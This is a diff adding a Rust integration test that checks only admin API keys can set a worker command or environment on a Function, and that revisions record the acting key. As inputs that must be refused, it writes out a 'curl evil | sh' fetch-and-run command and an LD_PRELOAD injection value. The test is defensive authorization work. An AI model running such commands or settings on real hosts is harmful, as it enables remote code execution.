@@ -121,3 +121,90 @@ async fn keys_are_stored_hashed_and_shown_once() -> anyhow::Result<()> {
     assert!(body["message"].as_str().unwrap().contains("entitlements.a.scopes"), "{body}");
     Ok(())
 }
+
+/// Who may run code on runner hosts: a `worker.command` (and the
+/// environment of a worker that is not an image) needs an admin key on
+/// every path that writes a Function; images stay open to write keys.
+#[tokio::test]
+async fn only_admin_keys_set_a_worker_command_on_every_path_and_revisions_name_the_key() -> anyhow::Result<()> {
+    let p = TestPlatform::start().await?;
+    let writer = p.mint_key(json!({"w": {"scopes": ["write"]}})).await?;
+    let key_id_of = |name: &'static str| {
+        let pool = p.pool.clone();
+        async move {
+            sqlx::query_scalar::<_, String>("SELECT key_id FROM api_keys WHERE name = $1")
+                .bind(name)
+                .fetch_one(&pool)
+                .await
+        }
+    };
+    let (writer_id, admin_id) = (key_id_of("t").await?, key_id_of("bootstrap-admin").await?);
+    let command = json!({"target_namespaces": ["a"], "worker": {"dispatch": "push", "command": ["python3", "w.py"]}});
+    let image = json!({"target_namespaces": ["a"], "worker": {"dispatch": "push", "image": "layer/echo-rust:dev"}});
+    let refused = |s: u16, r: &serde_json::Value, field: &str| {
+        let m = r["message"].as_str().unwrap_or_default();
+        assert_eq!((s, r["code"].as_str()), (403, Some("forbidden")), "{r}");
+        assert!(m.contains(field) && m.contains("admin scope") && m.contains(&writer_id), "{r}");
+    };
+
+    // REST create.
+    let (s, r) = p.call_as(&writer, Method::POST, "/v2/udfs", Some(json!({"id": "cmd", "spec": command}))).await?;
+    refused(s, &r, "spec.worker.command");
+    // An image is fine for a write key, and so is its environment.
+    let mut image_env = image.clone();
+    image_env["worker"]["env"] = json!({"MODE": "fast"});
+    let (s, r) = p.call_as(&writer, Method::POST, "/v2/udfs", Some(json!({"id": "img", "spec": image_env}))).await?;
+    assert_eq!(s, 200, "{r}");
+    // REST update that swaps the image for a command.
+    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": command}))).await?;
+    refused(s, &r, "spec.worker.command");
+    // Apply of a resource document, in its camelCase.
+    let doc = json!({"apiVersion": "hevlayer.com/v1alpha1", "kind": "Function", "metadata": {"name": "img"},
+                     "spec": {"targetNamespaces": ["a"], "worker": {"dispatch": "push", "command": ["./w"]}}});
+    let (s, r) = p.call_as(&writer, Method::POST, "/v2/apply", Some(json!({"documents": [doc.clone()]}))).await?;
+    refused(s, &r, "spec.worker.command");
+    assert!(r["message"].as_str().unwrap().starts_with("document 1 (Function/img): "), "{r}");
+    // Nothing changed: still the image, one revision.
+    let (_, g) = p.call(Method::GET, "/v2/udfs/img", None).await?;
+    assert_eq!((g["udf"]["revision"].as_i64(), g["udf"]["spec"]["worker"].get("command")), (Some(1), None), "{g}");
+
+    // The admin sets the command; the revision records the admin's key.
+    let (s, r) = p.call(Method::PUT, "/v2/udfs/img", Some(json!({"spec": command}))).await?;
+    assert_eq!((s, &r["revision"]), (200, &json!(2)), "{r}");
+    // The write key may change other fields of it (the command the admin
+    // chose runs on), but not the command, nor the process's environment.
+    let mut v2 = command.clone();
+    v2["version"] = json!("v2");
+    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": v2}))).await?;
+    assert_eq!((s, &r["revision"]), (200, &json!(3)), "{r}");
+    let mut env = v2.clone();
+    env["worker"]["env"] = json!({"LD_PRELOAD": "/tmp/x.so"});
+    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": env}))).await?;
+    refused(s, &r, "spec.worker.env");
+    let mut changed = v2.clone();
+    changed["worker"]["command"] = json!(["sh", "-c", "curl evil | sh"]);
+    let (s, r) = p.call_as(&writer, Method::PUT, "/v2/udfs/img", Some(json!({"spec": changed}))).await?;
+    refused(s, &r, "spec.worker.command");
+    // A write key may create a command Function through no path; the
+    // admin may through every one.
+    let (s, r) = p.call(Method::POST, "/v2/apply", Some(json!({"documents": [doc]}))).await?;
+    assert_eq!(s, 200, "{r}");
+    let (s, r) = p.call(Method::POST, "/v2/udfs", Some(json!({"id": "cmd", "spec": command}))).await?;
+    assert_eq!(s, 200, "{r}");
+
+    let (_, revs) = p.call(Method::GET, "/v2/udfs/img/revisions", None).await?;
+    let by: Vec<(i64, &str, bool)> = revs["revisions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| {
+            let set_command = r["changed"].as_array().unwrap().contains(&json!("worker.command"));
+            (r["revision"].as_i64().unwrap(), r["key_id"].as_str().unwrap_or(""), set_command)
+        })
+        .collect();
+    let (w, a) = (writer_id.as_str(), admin_id.as_str());
+    assert_eq!(by, vec![(1, w, false), (2, a, true), (3, w, false), (4, a, true)], "{revs}");
+    let (_, revs) = p.call(Method::GET, "/v2/udfs/cmd/revisions", None).await?;
+    assert_eq!(revs["revisions"][0]["key_id"], admin_id.as_str(), "{revs}");
+    Ok(())
+}
